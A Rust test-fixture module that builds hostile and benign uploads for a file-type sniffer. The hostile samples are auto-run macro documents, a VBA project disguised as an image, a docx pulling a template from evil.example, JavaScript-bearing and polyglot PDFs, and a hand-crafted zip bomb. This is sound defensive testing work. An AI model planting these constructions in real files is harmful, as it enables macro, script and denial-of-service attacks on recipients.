//! Hostile and benign uploads, built in memory for the tests (no binary file in the
//! repository): the sniffer's unit tests assert each hostile one is refused with its
//! reason and each benign one accepted; the HTTP tests upload the same files and expect
//! 415 with the same reason.
//!
//! A plain public module (hidden from the docs) rather than `#[cfg(test)]`, so that the
//! integration tests, another crate, can use it; and rather than behind a cargo feature,
//! which the workspace's test crate would turn on for the server it builds anyway. Nothing
//! in the server calls it, so the linker leaves it out of the binary.
//!
//! Builders that zip or deflate return `io::Result` (the zip writer's errors cannot happen
//! on a vector, but the server's code does not unwrap).

use std::io::{self, Cursor, Write};

use super::reason;

/// A file a student could upload.
pub struct Sample {
    /// What it is, for test messages.
    pub name: &'static str,
    /// The name it is uploaded under.
    pub file_name: &'static str,
    pub bytes: Vec<u8>,
    /// The reason it is refused with ([`super::reason`]); `None` for a benign file.
    pub refused_with: Option<&'static str>,
}

/// Every hostile sample, with the reason it must be refused with.
pub fn hostile() -> io::Result<Vec<Sample>> {
    let sample = |name, file_name, bytes, reason| Sample {
        name,
        file_name,
        bytes,
        refused_with: Some(reason),
    };
    Ok(vec![
        sample(
            "ODT whose Basic macro runs when it opens",
            "rapport.odt",
            odt_with_open_macro()?,
            reason::ODF_MACROS,
        ),
        sample(
            "docx whose VBA project is named word/image1.png, declared by its content type",
            "rapport.docx",
            docx_with_renamed_vba()?,
            reason::MACROS,
        ),
        sample(
            "docx whose VBA project is named word/image1.png, declared by its relationship",
            "rapport.docx",
            docx_with_vba_relationship()?,
            reason::MACROS,
        ),
        sample(
            "docx loading a remote template (settings.xml.rels)",
            "lettre.docx",
            docx_with_remote_template()?,
            reason::REMOTE,
        ),
        sample(
            "macro-enabled workbook named .xlsx",
            "budget.xlsx",
            xlsm_named_xlsx()?,
            reason::MACROS,
        ),
        sample(
            "PDF running JavaScript when it opens",
            "attestation.pdf",
            pdf_open_action_javascript(),
            reason::PDF_JAVASCRIPT,
        ),
        sample(
            "PDF with /Java#53cript",
            "attestation.pdf",
            pdf_escaped_javascript(),
            reason::PDF_JAVASCRIPT,
        ),
        sample(
            "PDF with JavaScript in a compressed object stream",
            "attestation.pdf",
            pdf_javascript_in_object_stream()?,
            reason::PDF_JAVASCRIPT,
        ),
        sample(
            "PDF that is also a web page",
            "attestation.pdf",
            pdf_html_polyglot(),
            reason::POLYGLOT,
        ),
        sample(
            "JPEG followed by a zip",
            "photo.jpg",
            jpeg_with_trailing_zip()?,
            reason::POLYGLOT,
        ),
        sample(
            "docx whose content types declare 1 GB",
            "rapport.docx",
            docx_zip_bomb(1 << 30)?,
            reason::TOO_LARGE,
        ),
    ])
}

/// Benign controls, which must be accepted.
pub fn benign() -> io::Result<Vec<Sample>> {
    let sample = |name, file_name, bytes| Sample {
        name,
        file_name,
        bytes,
        refused_with: None,
    };
    Ok(vec![
        sample("clean docx", "rapport.docx", clean_docx()?),
        sample("clean xlsx", "budget.xlsx", clean_xlsx()?),
        sample("clean odt", "rapport.odt", clean_odt()?),
        sample(
            "clean PDF (object and cross-reference streams, a web link)",
            "attestation.pdf",
            clean_pdf()?,
        ),
        sample(
            "docx with a hyperlink to a web page",
            "rapport.docx",
            docx_with_hyperlink()?,
        ),
    ])
}

/// A zip of `parts` in order, `mimetype` stored (as ODF requires), the rest deflated.
pub fn zip_entries(parts: &[(String, Vec<u8>)]) -> io::Result<Vec<u8>> {
    let mut out = Cursor::new(Vec::new());
    let mut zip = zip::ZipWriter::new(&mut out);
    for (name, content) in parts {
        let method = if name == "mimetype" {
            zip::CompressionMethod::Stored
        } else {
            zip::CompressionMethod::Deflated
        };
        let options = zip::write::SimpleFileOptions::default().compression_method(method);
        zip.start_file(name.as_str(), options)?;
        zip.write_all(content)?;
    }
    zip.finish()?;
    Ok(out.into_inner())
}

/// `parts` with the part `name` replaced by `content` (added when missing).
pub fn replaced(
    mut parts: Vec<(String, Vec<u8>)>,
    name: &str,
    content: &[u8],
) -> Vec<(String, Vec<u8>)> {
    match parts.iter_mut().find(|(n, _)| n == name) {
        Some((_, old)) => *old = content.to_vec(),
        None => parts.push((name.to_owned(), content.to_vec())),
    }
    parts
}

fn owned(parts: &[(&str, &str)]) -> Vec<(String, Vec<u8>)> {
    parts
        .iter()
        .map(|(n, c)| ((*n).to_owned(), c.as_bytes().to_vec()))
        .collect()
}

const XML: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const RELS_NS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";

fn relationships(items: &str) -> String {
    format!("{XML}<Relationships xmlns=\"{RELS_NS}\">{items}</Relationships>")
}

fn content_types(items: &str) -> String {
    format!(
        "{XML}<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.\
         relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>\
         <Default Extension=\"png\" ContentType=\"image/png\"/>{items}\
         <Override PartName=\"/docProps/core.xml\" ContentType=\"application/vnd.\
         openxmlformats-package.core-properties+xml\"/></Types>"
    )
}

const CORE: &str = "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/\
                    2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\">\
                    <dc:title>Compte rendu</dc:title></cp:coreProperties>";

/// A 1×1 PNG's bytes (header and chunks; pixels not meant to decode).
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x00\0\0\0\0\0\0\0\0\
                     \0\0\0\0IEND\xaeB`\x82";

const DOCUMENT_RELS: &str = "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/\
                             officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/>\
                             <Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/\
                             officeDocument/2006/relationships/settings\" Target=\"settings.xml\"/>\
                             <Relationship Id=\"rId3\" Type=\"http://schemas.openxmlformats.org/\
                             officeDocument/2006/relationships/image\" Target=\"media/image1.png\"/>";

/// The parts of a clean Word document: text, styles, settings, a picture.
pub fn docx_parts() -> Vec<(String, Vec<u8>)> {
    let w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    let mut parts = owned(&[
        (
            "[Content_Types].xml",
            &content_types(
                "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.\
                 openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>\
                 <Override PartName=\"/word/styles.xml\" ContentType=\"application/vnd.\
                 openxmlformats-officedocument.wordprocessingml.styles+xml\"/>\
                 <Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.\
                 openxmlformats-officedocument.wordprocessingml.settings+xml\"/>",
            ),
        ),
        (
            "_rels/.rels",
            &relationships(&format!(
                "<Relationship Id=\"rId1\" Type=\"{REL}/officeDocument\" \
                 Target=\"word/document.xml\"/><Relationship Id=\"rId2\" \
                 Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/\
                 core-properties\" Target=\"docProps/core.xml\"/>"
            )),
        ),
        (
            "word/document.xml",
            &format!(
                "{XML}<w:document xmlns:w=\"{w}\"><w:body><w:p><w:r><w:t>Compte rendu de \
                 stage</w:t></w:r></w:p></w:body></w:document>"
            ),
        ),
        (
            "word/_rels/document.xml.rels",
            &relationships(DOCUMENT_RELS),
        ),
        (
            "word/styles.xml",
            &format!("{XML}<w:styles xmlns:w=\"{w}\"/>"),
        ),
        (
            "word/settings.xml",
            &format!("{XML}<w:settings xmlns:w=\"{w}\"><w:zoom w:percent=\"100\"/></w:settings>"),
        ),
        ("docProps/core.xml", CORE),
    ]);
    parts.push(("word/media/image1.png".to_owned(), PNG.to_vec()));
    parts
}

/// The parts of a clean workbook: one sheet.
pub fn xlsx_parts() -> Vec<(String, Vec<u8>)> {
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    owned(&[
        (
            "[Content_Types].xml",
            &content_types(
                "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.\
                 openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>\
                 <Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/\
                 vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>",
            ),
        ),
        (
            "_rels/.rels",
            &relationships(&format!(
                "<Relationship Id=\"rId1\" Type=\"{REL}/officeDocument\" \
                 Target=\"xl/workbook.xml\"/>"
            )),
        ),
        (
            "xl/workbook.xml",
            &format!(
                "{XML}<workbook xmlns=\"{main}\" xmlns:r=\"{REL}\"><sheets><sheet name=\"Budget\" \
                 sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            &relationships(&format!(
                "<Relationship Id=\"rId1\" Type=\"{REL}/worksheet\" \
                 Target=\"worksheets/sheet1.xml\"/>"
            )),
        ),
        (
            "xl/worksheets/sheet1.xml",
            &format!(
                "{XML}<worksheet xmlns=\"{main}\"><sheetData><row r=\"1\"><c r=\"A1\" \
                 t=\"inlineStr\"><is><t>Total</t></is></c><c r=\"B1\"><v>42</v></c></row>\
                 </sheetData></worksheet>"
            ),
        ),
        ("docProps/core.xml", CORE),
    ])
}

const ODF_NS: &str = "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
                      xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" \
                      xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" \
                      xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
                      xmlns:meta=\"urn:oasis:names:tc:opendocument:xmlns:meta:1.0\" \
                      office:version=\"1.3\"";

fn manifest(extra: &str) -> String {
    format!(
        "{XML}<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:\
         manifest:1.0\" manifest:version=\"1.3\"><manifest:file-entry manifest:full-path=\"/\" \
         manifest:version=\"1.3\" manifest:media-type=\"application/vnd.oasis.opendocument.\
         text\"/><manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\
         \"text/xml\"/><manifest:file-entry manifest:full-path=\"styles.xml\" \
         manifest:media-type=\"text/xml\"/><manifest:file-entry manifest:full-path=\"meta.xml\" \
         manifest:media-type=\"text/xml\"/>{extra}</manifest:manifest>"
    )
}

fn odt_content(scripts: &str) -> String {
    format!(
        "{XML}<office:document-content {ODF_NS}>{scripts}<office:body><office:text><text:p>\
         Compte rendu de stage, voir <text:a xlink:href=\"https://eduscol.education.fr/\">\
         Éduscol</text:a></text:p></office:text></office:body></office:document-content>"
    )
}

/// The parts of a clean text document, `<office:scripts/>` included (LibreOffice writes it
/// empty).
pub fn odt_parts() -> Vec<(String, Vec<u8>)> {
    owned(&[
        ("mimetype", "application/vnd.oasis.opendocument.text"),
        ("META-INF/manifest.xml", &manifest("")),
        ("content.xml", &odt_content("<office:scripts/>")),
        (
            "styles.xml",
            &format!("{XML}<office:document-styles {ODF_NS}/>"),
        ),
        (
            "meta.xml",
            &format!(
                "{XML}<office:document-meta {ODF_NS}><office:meta><meta:template \
                 xlink:href=\"../Modeles/rapport.ott\"/></office:meta></office:document-meta>"
            ),
        ),
    ])
}

/// An OLE compound file's first sector and a directory naming a VBA project (`VBA`
/// storage, `_VBA_PROJECT` and `PROJECT` streams), which is what the checks look for.
pub fn ole_vba_project() -> Vec<u8> {
    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    ole.resize(512, 0);
    for name in ["Root Entry", "VBA", "_VBA_PROJECT", "PROJECT", "Module1"] {
        let mut entry: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        entry.resize(128, 0);
        ole.extend_from_slice(&entry);
    }
    ole.extend(b"Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nShell \"calc\"\nEnd Sub\n");
    ole
}

pub fn clean_docx() -> io::Result<Vec<u8>> {
    zip_entries(&docx_parts())
}

pub fn clean_xlsx() -> io::Result<Vec<u8>> {
    zip_entries(&xlsx_parts())
}

pub fn clean_odt() -> io::Result<Vec<u8>> {
    zip_entries(&odt_parts())
}

/// `word/image1.png` holds a VBA project, declared as one by its content type and
/// related to the document as a picture.
pub fn docx_with_renamed_vba() -> io::Result<Vec<u8>> {
    let parts = docx_parts();
    let types = content_types(
        "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.\
         openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>\
         <Override PartName=\"/word/image1.png\" ContentType=\"application/vnd.ms-office.\
         vbaProject\"/>",
    );
    let parts = replaced(parts, "[Content_Types].xml", types.as_bytes());
    let rels = relationships(&format!(
        "{DOCUMENT_RELS}<Relationship Id=\"rId9\" Type=\"{REL}/image\" Target=\"image1.png\"/>"
    ));
    let parts = replaced(parts, "word/_rels/document.xml.rels", rels.as_bytes());
    zip_entries(&replaced(parts, "word/image1.png", &ole_vba_project()))
}

/// `word/image1.png` holds a VBA project, declared as a PNG but related to the document
/// as its VBA project.
pub fn docx_with_vba_relationship() -> io::Result<Vec<u8>> {
    let rels = relationships(&format!(
        "{DOCUMENT_RELS}<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/\
         2006/relationships/vbaProject\" Target=\"image1.png\"/>"
    ));
    let parts = replaced(
        docx_parts(),
        "word/_rels/document.xml.rels",
        rels.as_bytes(),
    );
    zip_entries(&replaced(parts, "word/image1.png", &ole_vba_project()))
}

/// The classic: `settings.xml` attaches a template fetched from a web server when the
/// document opens (which may hold the macros).
pub fn docx_with_remote_template() -> io::Result<Vec<u8>> {
    let settings = format!(
        "{XML}<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/\
         main\" xmlns:r=\"{REL}\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"
    );
    let parts = replaced(docx_parts(), "word/settings.xml", settings.as_bytes());
    let rels = relationships(&format!(
        "<Relationship Id=\"rId1\" Type=\"{REL}/attachedTemplate\" \
         Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
    ));
    zip_entries(&replaced(
        parts,
        "word/_rels/settings.xml.rels",
        rels.as_bytes(),
    ))
}

/// A workbook declared macro-enabled (what Excel saves as .xlsm), named .xlsx.
pub fn xlsm_named_xlsx() -> io::Result<Vec<u8>> {
    let types = content_types(
        "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.\
         sheet.macroEnabled.main+xml\"/>",
    );
    zip_entries(&replaced(
        xlsx_parts(),
        "[Content_Types].xml",
        types.as_bytes(),
    ))
}

/// A docx with an external hyperlink to a web page, which stays accepted.
pub fn docx_with_hyperlink() -> io::Result<Vec<u8>> {
    let rels = relationships(&format!(
        "{DOCUMENT_RELS}<Relationship Id=\"rId9\" Type=\"{REL}/hyperlink\" \
         Target=\"https://www.education.gouv.fr/\" TargetMode=\"External\"/>"
    ));
    zip_entries(&replaced(
        docx_parts(),
        "word/_rels/document.xml.rels",
        rels.as_bytes(),
    ))
}

/// An ODT with a Basic library and the document-open event bound to it.
pub fn odt_with_open_macro() -> io::Result<Vec<u8>> {
    let module = format!(
        "{XML}<script:module xmlns:script=\"http://openoffice.org/2000/script\" \
         script:name=\"Module1\" script:language=\"StarBasic\">Sub Main\n  Shell(\"calc\")\n\
         End Sub</script:module>"
    );
    let listener = "<office:scripts><office:event-listeners><script:event-listener \
                    script:language=\"ooo:script\" script:event-name=\"dom:load\" \
                    xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;\
                    location=document\"/></office:event-listeners></office:scripts>";
    let basic = "<manifest:file-entry manifest:full-path=\"Basic/Standard/Module1.xml\" \
                 manifest:media-type=\"text/xml\"/><manifest:file-entry manifest:full-path=\
                 \"Basic/Standard/script-lb.xml\" manifest:media-type=\"text/xml\"/>\
                 <manifest:file-entry manifest:full-path=\"Basic/script-lc.xml\" \
                 manifest:media-type=\"text/xml\"/>";
    let parts = replaced(
        odt_parts(),
        "META-INF/manifest.xml",
        manifest(basic).as_bytes(),
    );
    let parts = replaced(parts, "content.xml", odt_content(listener).as_bytes());
    let parts = replaced(parts, "Basic/Standard/Module1.xml", module.as_bytes());
    let parts = replaced(
        parts,
        "Basic/Standard/script-lb.xml",
        b"<library:library library:name=\"Standard\"/>",
    );
    let parts = replaced(
        parts,
        "Basic/script-lc.xml",
        b"<library:libraries><library:library library:name=\"Standard\"/></library:libraries>",
    );
    zip_entries(&parts)
}

/// A PDF of `objects` (object `n` is `objects[n - 1]`, its body between `obj` and
/// `endobj`), with a cross-reference table and a trailer whose root is object 1.
pub fn pdf_document(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n", i + 1).bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n \n").bytes());
    }
    out.extend(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .bytes(),
    );
    out
}

/// A stream object's body: `dict` entries, the length of `data`, the data.
pub fn pdf_stream(dict: &str, data: &[u8]) -> Vec<u8> {
    let mut out = format!("<< {dict} /Length {} >>\nstream\n", data.len()).into_bytes();
    out.extend_from_slice(data);
    out.extend_from_slice(b"\nendstream");
    out
}

fn zlib(data: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(data)?;
    encoder.finish()
}

/// An object stream's body holding `objects` (number, body).
fn object_stream(objects: &[(u32, &str)]) -> io::Result<Vec<u8>> {
    let mut header = String::new();
    let mut bodies = String::new();
    for (number, body) in objects {
        header.push_str(&format!("{number} {} ", bodies.len()));
        bodies.push_str(body);
        bodies.push('\n');
    }
    let data = zlib(format!("{header}{bodies}").as_bytes())?;
    Ok(pdf_stream(
        &format!(
            "/Type /ObjStm /N {} /First {} /Filter /FlateDecode",
            objects.len(),
            header.len()
        ),
        &data,
    ))
}

const CATALOG_PAGES: [&[u8]; 2] = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
];

fn pdf_with_catalog(catalog_extra: &str) -> Vec<u8> {
    pdf_document(&[
        format!("<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>").into_bytes(),
        CATALOG_PAGES[0].to_vec(),
        CATALOG_PAGES[1].to_vec(),
    ])
}

pub fn pdf_open_action_javascript() -> Vec<u8> {
    pdf_with_catalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
}

/// The same action, its names written with `#xx` escapes.
pub fn pdf_escaped_javascript() -> Vec<u8> {
    pdf_with_catalog("/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>")
}

/// The action (object 4) packed in a Flate object stream (object 5), which the
/// cross-reference stream points to: only a reader of object streams finds it.
pub fn pdf_javascript_in_object_stream() -> io::Result<Vec<u8>> {
    pdf_with_xref_stream(
        &[
            Some(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>".to_vec()),
            Some(CATALOG_PAGES[0].to_vec()),
            Some(CATALOG_PAGES[1].to_vec()),
            None,
            Some(object_stream(&[(
                4,
                "<< /S /JavaScript /JS (app.alert(1)) >>",
            )])?),
        ],
        5,
    )
}

/// A web page before a PDF: a browser runs its script, a PDF reader shows the PDF.
pub fn pdf_html_polyglot() -> Vec<u8> {
    let mut out = b"<html><body><script>alert(document.cookie)</script></body></html>\n".to_vec();
    out.extend(pdf_with_catalog(""));
    out
}

/// A phone photo with a zip after its end: a photo for a viewer, an archive for an
/// unzipper.
pub fn jpeg_with_trailing_zip() -> io::Result<Vec<u8>> {
    let mut out = super::sample_phone_jpeg();
    out.extend(clean_docx()?);
    Ok(out)
}

/// A PDF as recent writers make them: a text content stream, an uncompressed image whose
/// bytes spell names (never read as such), a font and a web link in an object stream,
/// a cross-reference stream with a PNG predictor, an opening view.
pub fn clean_pdf() -> io::Result<Vec<u8>> {
    let content = zlib(
        b"BT /F1 12 Tf 72 770 Td (Compte rendu de stage) Tj ET\n\
                         q 40 0 0 40 72 600 cm /Im1 Do Q\n",
    )?;
    let objects = [
        Some(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /Lang (fr-FR) >>".to_vec()),
        Some(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec()),
        Some(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R \
              /Resources << /Font << /F1 6 0 R >> /XObject << /Im1 5 0 R >> >> \
              /Annots [7 0 R] >>"
                .to_vec(),
        ),
        Some(pdf_stream("/Filter /FlateDecode", &content)),
        Some(pdf_stream(
            "/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray \
             /BitsPerComponent 8",
            b"/JS /EF /XFA ()\xff",
        )),
        None,
        None,
        Some(object_stream(&[
            (6, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
            (
                7,
                "<< /Type /Annot /Subtype /Link /Rect [72 760 300 780] \
                 /A << /S /URI /URI (https://www.education.gouv.fr/JS/) >> >>",
            ),
        ])?),
    ];
    pdf_with_xref_stream(&objects, 8)
}

/// A PDF 1.5 of `objects` (object `n` is `objects[n - 1]`): those given written out, the
/// `None` ones packed in the object stream numbered `packed_in` (in their order), all
/// found through a cross-reference stream with a PNG predictor, as recent writers do.
fn pdf_with_xref_stream(objects: &[Option<Vec<u8>>], packed_in: u32) -> io::Result<Vec<u8>> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    // Rows: type, offset or object stream (4 bytes), generation or index (2 bytes).
    let mut rows: Vec<[u8; 7]> = vec![[0, 0, 0, 0, 0, 0xFF, 0xFF]];
    for (i, body) in objects.iter().enumerate() {
        let Some(body) = body else {
            let [s0, s1, s2, s3] = packed_in.to_be_bytes();
            let index = objects[..i].iter().filter(|o| o.is_none()).count() as u16;
            let [i0, i1] = index.to_be_bytes();
            rows.push([2, s0, s1, s2, s3, i0, i1]);
            continue;
        };
        let [o0, o1, o2, o3] = (out.len() as u32).to_be_bytes();
        rows.push([1, o0, o1, o2, o3, 0, 0]);
        out.extend(format!("{} 0 obj\n", i + 1).bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref_at = out.len();
    let [o0, o1, o2, o3] = (xref_at as u32).to_be_bytes();
    rows.push([1, o0, o1, o2, o3, 0, 0]);
    // PNG predictor rows, each with filter type 0 (None).
    let predicted: Vec<u8> = rows
        .iter()
        .flat_map(|row| [&[0u8][..], row].concat())
        .collect();
    let xref = pdf_stream(
        &format!(
            "/Type /XRef /Size {} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode \
             /DecodeParms << /Columns 7 /Predictor 12 >>",
            rows.len()
        ),
        &zlib(&predicted)?,
    );
    out.extend(format!("{} 0 obj\n", objects.len() + 1).bytes());
    out.extend(xref);
    out.extend(format!("\nendobj\nstartxref\n{xref_at}\n%%EOF\n").bytes());
    Ok(out)
}

/// A docx whose `[Content_Types].xml` inflates to 1 GiB of zeros, its declared size
/// `declared` (1 GiB for an honest bomb, less for one that lies). Written by hand: the
/// zip writer would have to compress the gigabyte; the deflate stream is a block of
/// zeros repeated (it only refers back to zeros, so any number of copies is valid).
pub fn docx_zip_bomb(declared: u32) -> io::Result<Vec<u8>> {
    let mut compress = flate2::Compress::new(flate2::Compression::best(), false);
    let mebibyte = vec![0u8; 1 << 20];
    let chunk = |compress: &mut flate2::Compress| -> io::Result<Vec<u8>> {
        let mut out = Vec::with_capacity(1 << 16);
        compress
            .compress_vec(&mebibyte, &mut out, flate2::FlushCompress::Sync)
            .map_err(io::Error::other)?;
        Ok(out)
    };
    let mut deflated = chunk(&mut compress)?;
    let repeated = chunk(&mut compress)?;
    for _ in 1..1024 {
        deflated.extend_from_slice(&repeated);
    }
    // A final, empty, fixed-Huffman block.
    deflated.extend_from_slice(&[0x03, 0x00]);
    let document = format!(
        "{XML}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/\
         main\"/>"
    );
    let mut crc = flate2::Crc::new();
    crc.update(document.as_bytes());
    let entries = [
        // name, method, data, crc (not checked: the read stops first), declared size
        ("[Content_Types].xml", 8u16, deflated, 0u32, declared),
        (
            "word/document.xml",
            0,
            document.as_bytes().to_vec(),
            crc.sum(),
            document.len() as u32,
        ),
    ];
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, method, data, crc, size) in &entries {
        let offset = out.len() as u32;
        let fields = |out: &mut Vec<u8>| {
            out.extend_from_slice(&20u16.to_le_bytes()); // version needed
            out.extend_from_slice(&0u16.to_le_bytes()); // flags
            out.extend_from_slice(&method.to_le_bytes());
            out.extend_from_slice(&[0, 0, 0x21, 0]); // time, date (1980-01-01)
            out.extend_from_slice(&crc.to_le_bytes());
            out.extend_from_slice(&(data.len() as u32).to_le_bytes());
            out.extend_from_slice(&size.to_le_bytes());
            out.extend_from_slice(&(name.len() as u16).to_le_bytes());
            out.extend_from_slice(&0u16.to_le_bytes()); // extra length
        };
        out.extend_from_slice(b"PK\x03\x04");
        fields(&mut out);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&20u16.to_le_bytes()); // version made by
        fields(&mut central);
        central.extend_from_slice(&[0; 6]); // comment length, disk, internal attributes
        central.extend_from_slice(&0u32.to_le_bytes()); // external attributes
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let directory_at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&directory_at.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    Ok(out)
}
